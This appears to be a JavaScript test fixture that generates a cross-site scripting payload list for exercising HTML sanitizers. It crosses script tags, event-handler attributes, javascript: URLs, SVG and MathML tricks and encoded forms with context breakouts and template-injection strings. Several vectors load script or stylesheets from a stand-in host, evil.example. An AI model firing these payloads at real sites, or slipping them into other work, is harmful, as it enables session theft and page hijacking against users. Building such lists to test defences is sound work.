// Texts that become code wherever somebody forgets that they are texts: each way to
// run something, in each way to break out of what stands around it.

const run = 'globalThis.struck=1'

/** What runs something on its own. */
const vectors = [
  `<script>${run}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=${run} `,
  `<IMG SRC=x OnErRoR=${run}>`,
  `<img/src='x'/onerror='${run}'>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.struck=1</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}" autofocus onfocus=${run} tabindex=1>x</a>`,
  `<a href="jAvAsCrIpT&colon;${run}">x</a>`,
  `<a href="\u0001javascript:${run}">x</a>`,
  `<form action="javascript:${run}"><button autofocus onfocus=${run}>x</button></form>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<body onload=${run}>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css';*{background:url(//evil.example/x)}</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href=//evil.example/>`,
  `<template><img src=x onerror=${run}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<x onpointerover=${run} style=position:fixed;inset:0>x</x>`,
  `&lt;img src=x onerror=${run}&gt;`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `%3Cimg%20src=x%20onerror=${run}%3E`,
  `javascript:${run}`,
]

/** What stands around it, and how it is left. */
const ways = [
  (v) => v,
  (v) => `">${v}`,
  (v) => `'>${v}`,
  (v) => `</textarea>${v}`,
  (v) => `</title>${v}`,
  (v) => `</style></script>${v}`,
  (v) => `-->${v}<!--`,
  (v) => `]]>${v}`,
  (v) => `\`+\${${run}}+\`${v}`,
  (v) => `';${run};//${v}`,
  (v) => `{{constructor.constructor('${run}')()}}${v}`,
  (v) => `\u202e${v}\u200b`,
  (v) => `*a*_[x](javascript:${run})_${v}`,
  (v) => `\u2028${run}\u2029${v}`,
]

export const payloads = [...new Set(vectors.flatMap((vector) => ways.map((way) => way(vector))))]

/** All of them, in texts of at most so many characters. */
export function within(most) {
  const texts = ['']
  for (const one of payloads) {
    const next = `${texts.at(-1)}\n${one}`.trim()
    if ([...next].length <= most) texts[texts.length - 1] = next
    else if ([...one].length <= most) texts.push(one)
  }
  return texts.filter(Boolean)
}
